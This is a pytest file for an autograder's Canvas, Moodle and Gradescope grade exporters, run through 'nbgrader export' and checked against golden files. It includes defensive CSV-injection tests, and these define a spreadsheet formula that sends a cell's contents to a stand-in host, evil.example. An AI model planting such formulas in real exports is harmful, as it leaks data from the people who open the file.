"""The LMS exporters, run through the real ``nbgrader export`` on a small hand-built gradebook.

No kernel runs: the gradebook is filled through nbgrader's API and each student's
autograded notebook carries outputs written by the judge's own ``write_outputs``.
Outputs are compared byte for byte with the files in ``tests/golden/export/``.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path

import nbformat
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from nbgrader.api import Gradebook

from autograder.assignments import texts_for
from autograder.classroom import repo_root
from autograder.export import CanvasExporter
from autograder.roster import import_roster
from autograder.spreadsheet import NUMBER, neutralise
from autograder.verdict import CheckResult, score_cell, write_outputs

GOLDEN = Path(__file__).parent / "golden" / "export"
COURSE_ID = "export-test"

# assignment -> notebook cells: (grade_id, points, autograded)
CELLS = {
    "activations": [("sigmoid", 6.0, True), ("relu", 4.0, True), ("explain", 2.0, False)],
    "convolution": [("conv2d", 10.0, True)],
}
DUE = {"activations": datetime(2026, 3, 1), "convolution": datetime(2026, 4, 1)}
STUDENTS = {
    "ada": {"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.edu"},
    "ben": {"first_name": "Ben", "last_name": "Bitdiddle", "email": "ben@example.edu"},
    "chen": {"first_name": "Li", "last_name": "Chen", "email": "li.chen@example.edu"},
}
OVERFLOW = {"key": "warned", "fields": {"warning": "RuntimeWarning: overflow encountered in exp"}}
# (student, assignment) -> check outcomes per autograded cell: (title, weight, passed)
OUTCOMES = {
    ("ada", "activations"): {
        "sigmoid": [("values", 1, True), ("extremes", 1, True), ("shape_and_type", 1, True)],
        "relu": [("values", 1, True), ("no_mutation", 1, True)],
    },
    ("ada", "convolution"): {"conv2d": [("matches_reference", 3, True), ("no_mutation", 1, False)]},
    ("ben", "activations"): {
        "sigmoid": [("values", 1, True), ("extremes", 1, False), ("shape_and_type", 1, True)],
        "relu": [("values", 1, False), ("no_mutation", 1, True)],
    },
    ("ben", "convolution"): {"conv2d": [("matches_reference", 3, True), ("no_mutation", 1, True)]},
    ("chen", "activations"): {
        "sigmoid": [("values", 1, False), ("extremes", 1, False), ("shape_and_type", 1, True)],
        "relu": [("values", 1, True), ("no_mutation", 1, True)],
    },
}
# The TA's scores: the markdown answer, and one override of the judge (ben's relu).
MANUAL = {
    ("ada", "activations", "explain"): 2.0,
    ("ben", "activations", "explain"): 1.5,
    ("ben", "activations", "relu"): 3.0,
    ("chen", "activations", "explain"): 0.0,
}
ROSTER = (
    "Student,ID,SIS User ID,SIS Login ID,Section,activations (1234),Quiz 1 (999),Current Score\n"
    "    Points Possible,,,,,12,5,\n"
    '"Lovelace, Ada",501,S-0001,ada,Lab A,,5,100\n'
    '"Bitdiddle, Ben",502,S-0002,ben,Lab B,,4,80\n'
    '"Student, Test",599,,test-student-1,,,,\n'
)


@pytest.fixture(autouse=True)
def venv_on_path(monkeypatch: pytest.MonkeyPatch) -> None:
    """nbgrader's Gradebook runs ``alembic`` from PATH, in this process and in ``nbgrader export``."""
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")


def results(student: str, assignment: str, cell: str) -> list[CheckResult]:
    return [
        CheckResult(
            check=f"test_{cell}_{title}",
            cell=cell,
            weight=weight,
            title=title,
            passed=passed,
            failure=None if passed else OVERFLOW,
        )
        for title, weight, passed in OUTCOMES[(student, assignment)][cell]
    ]


def autograded_notebook(root: Path, student: str, assignment: str) -> dict[str, float]:
    """Write the student's autograded notebook as the judge leaves it; its cell scores by grade_id."""
    nb = new_notebook()
    scores = {}
    for grade_id, points, auto in CELLS[assignment]:
        meta = {"grade": True, "grade_id": grade_id, "points": points, "locked": True, "schema_version": 3}
        if not auto:
            cell = new_markdown_cell("My explanation.")
            cell.metadata["nbgrader"] = {**meta, "solution": True, "locked": False}
        else:
            cell = new_code_cell(f"check_{grade_id}()", execution_count=1)
            cell.metadata["nbgrader"] = {**meta, "solution": False}
            texts = texts_for(repo_root(), assignment)  # the assignment's check titles
            verdict = score_cell(grade_id, points, results(student, assignment, grade_id), texts=texts)
            write_outputs(cell, verdict)
            scores[grade_id] = verdict.score
        nb.cells.append(cell)
    folder = root / "autograded" / student / assignment
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{assignment}.ipynb")
    return scores


def make_course(root: Path, config: str = "", extra_students: dict[str, dict] | None = None) -> Path:
    """A course directory with a filled gradebook, autograded notebooks and an nbgrader_config.py."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "canvas_export.csv").write_text(ROSTER, encoding="utf-8")
    (root / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.root = {str(root)!r}\n"
        f"c.CourseDirectory.course_id = {COURSE_ID!r}\n{config}",
        encoding="utf-8",
    )
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", COURSE_ID) as gb:
        for assignment, cells in CELLS.items():
            gb.update_or_create_assignment(assignment, duedate=DUE[assignment])
            gb.update_or_create_notebook(assignment, assignment)
            for grade_id, points, auto in cells:
                gb.update_or_create_grade_cell(
                    grade_id,
                    assignment,
                    assignment,
                    max_score=points,
                    cell_type="code" if auto else "markdown",
                )
        for student, fields in {**STUDENTS, **(extra_students or {})}.items():
            gb.update_or_create_student(student, **fields)
        for student, assignment in OUTCOMES:
            gb.add_submission(assignment, student)
            for grade_id, score in autograded_notebook(root, student, assignment).items():
                gb.find_grade(grade_id, assignment, assignment, student).auto_score = score
        for (student, assignment, grade_id), score in MANUAL.items():
            gb.find_grade(grade_id, assignment, assignment, student).manual_score = score
        gb.db.commit()
    return root


def nbgrader_export(root: Path, exporter: str, to: Path, *extra: str) -> subprocess.CompletedProcess:
    """The real ``nbgrader export`` command, as a TA runs it in the course directory."""
    return subprocess.run(
        [
            str(Path(sys.executable).parent / "nbgrader"),
            "export",
            f"--exporter=autograder.export.{exporter}",
            f"--to={to}",
            *extra,
        ],
        cwd=root,
        capture_output=True,
        text=True,
        check=False,
    )


def assert_golden(produced: Path, golden: str) -> None:
    expected = GOLDEN / golden
    if os.environ.get("UPDATE_GOLDEN"):
        expected.parent.mkdir(parents=True, exist_ok=True)
        expected.write_bytes(produced.read_bytes())
    assert produced.read_bytes() == expected.read_bytes(), f"{produced} differs from {expected}"


def test_canvas_csv_matches_golden_and_canvas_rules(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course", "c.CanvasExporter.roster = 'canvas_export.csv'\n")
    dest = tmp_path / "canvas.csv"
    run = nbgrader_export(root, "CanvasExporter", dest)
    assert run.returncode == 0, run.stderr
    assert_golden(dest, "canvas.csv")

    rows = list(csv.reader(dest.read_text(encoding="utf-8").splitlines()))
    assert rows[0] == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        "activations (1234)",
        "convolution",
    ]
    assert rows[1] == ["Points Possible", "", "", "", "", "12", "10"]
    assert [row[0] for row in rows[2:]] == ["Bitdiddle, Ben", "Chen, Li", "Lovelace, Ada"]
    assert '"Lovelace, Ada",501,S-0001,ada,Lab A,' in dest.read_text(encoding="utf-8")
    chen = rows[3]
    assert chen[1] == "" and chen[3] == "chen" and chen[6] == ""  # no Canvas id; no convolution submission
    assert "no Canvas user id for students: chen" in run.stderr


def test_canvas_assignment_ids_config_wins_over_roster(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course")
    dest = tmp_path / "canvas.csv"
    exporter = CanvasExporter(
        to=str(dest),
        roster=str(root / "canvas_export.csv"),
        assignment_ids={"activations": "42", "convolution": "77"},
    )
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", COURSE_ID) as gb:
        exporter.export(gb)
    header = next(csv.reader(dest.read_text(encoding="utf-8").splitlines()))
    assert header[5:] == ["activations (42)", "convolution (77)"]


def test_canvas_ids_from_the_gradebook_after_roster_import(tmp_path: Path) -> None:
    """Import the Canvas export once (``autograder roster import``); later exports need no roster file."""
    root = make_course(tmp_path / "course", "c.CanvasExporter.assignment_ids = {'activations': '1234'}\n")
    imported = import_roster(root / "canvas_export.csv", root)
    assert imported.exit_status == 0
    assert imported.updated == {"ben": {"lms_user_id": (None, "502")}, "ada": {"lms_user_id": (None, "501")}}
    (root / "canvas_export.csv").unlink()
    dest = tmp_path / "canvas.csv"
    run = nbgrader_export(root, "CanvasExporter", dest)
    assert run.returncode == 0, run.stderr
    assert_golden(dest, "canvas_lms_user_id.csv")

    rows = list(csv.reader(dest.read_text(encoding="utf-8").splitlines()))
    assert rows[0][5:] == ["activations (1234)", "convolution"]
    assert [row[:5] for row in rows[2:]] == [
        ["Bitdiddle, Ben", "502", "", "ben", ""],
        ["Chen, Li", "", "", "chen", ""],
        ["Lovelace, Ada", "501", "", "ada", ""],
    ]
    assert "no Canvas user id for students: chen" in run.stderr


@pytest.mark.parametrize(
    ("config", "golden"),
    [
        ("", "moodle_email.csv"),
        (
            "c.MoodleExporter.key = 'idnumber'\nc.MoodleExporter.feedback = True\n",
            "moodle_idnumber_feedback.csv",
        ),
    ],
    ids=["email", "idnumber-feedback"],
)
def test_moodle_csv_matches_golden(tmp_path: Path, config: str, golden: str) -> None:
    root = make_course(tmp_path / "course", config)
    dest = tmp_path / "moodle.csv"
    run = nbgrader_export(root, "MoodleExporter", dest)
    assert run.returncode == 0, run.stderr
    assert_golden(dest, golden)


def test_moodle_refuses_students_without_email(tmp_path: Path) -> None:
    extra = {
        "dana": {"first_name": "Dana", "last_name": "Scully", "email": None},
        "eli": {"first_name": "Eli", "last_name": "Roth", "email": ""},
    }
    root = make_course(tmp_path / "course", extra_students=extra)
    dest = tmp_path / "moodle.csv"
    run = nbgrader_export(root, "MoodleExporter", dest)
    assert run.returncode != 0
    assert "no email for students: eli, dana" in run.stdout + run.stderr
    assert not dest.exists()
    # The same roster exports fine keyed by ID number, which every nbgrader student has.
    run = nbgrader_export(root, "MoodleExporter", dest, "--MoodleExporter.key=idnumber")
    assert run.returncode == 0, run.stderr
    assert "dana" in dest.read_text(encoding="utf-8")


def test_gradescope_results_match_golden(tmp_path: Path) -> None:
    root = make_course(tmp_path / "course")
    dest = tmp_path / "gradescope"
    run = nbgrader_export(root, "GradescopeExporter", dest)
    assert run.returncode == 0, run.stderr
    written = sorted(p.relative_to(dest).as_posix() for p in dest.rglob("results.json"))
    assert written == [f"{a}/{s}/results.json" for s, a in sorted(OUTCOMES, key=lambda k: (k[1], k[0]))]
    for relative in written:
        produced = dest / relative
        assert_golden(produced, "gradescope/" + relative)
        doc = json.loads(produced.read_text(encoding="utf-8"))
        assert doc["score"] <= doc["max_score"]
        assert all(t["visibility"] == "visible" for t in doc["tests"])


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("exporter", ["CanvasExporter", "MoodleExporter"])
def test_csv_cells_that_could_start_a_formula_are_written_as_text(tmp_path: Path, exporter: str) -> None:
    """OWASP's CSV-injection rule: a student-controlled cell a spreadsheet would run gets a leading '."""
    extra = {"=mallory": {"first_name": "@SUM(A1)", "last_name": FORMULA, "email": "+m@example.edu"}}
    root = make_course(tmp_path / "course", extra_students=extra)
    dest = tmp_path / "grades.csv"
    run = nbgrader_export(root, exporter, dest, "--MoodleExporter.key=idnumber")
    assert run.returncode == 0, run.stderr
    cells = [cell for row in csv.reader(dest.read_text(encoding="utf-8").splitlines()) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "@", "+") or cell.startswith("-")]
    assert "'=mallory" in cells
    assert ("'" + FORMULA + ", @SUM(A1)" if exporter == "CanvasExporter" else "'=mallory") in cells


@given(st.one_of(st.floats(allow_nan=False, allow_infinity=False), st.integers()))
def test_numbers_are_never_changed(number: float) -> None:
    assert neutralise(repr(number)) == repr(number) and neutralise(number) == number


@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text())
def test_every_text_that_could_start_a_formula_reads_as_text(start: str, rest: str) -> None:
    text = start + rest
    assert neutralise(text) in (text, "'" + text)
    assert neutralise(text) == "'" + text or NUMBER.fullmatch(text)
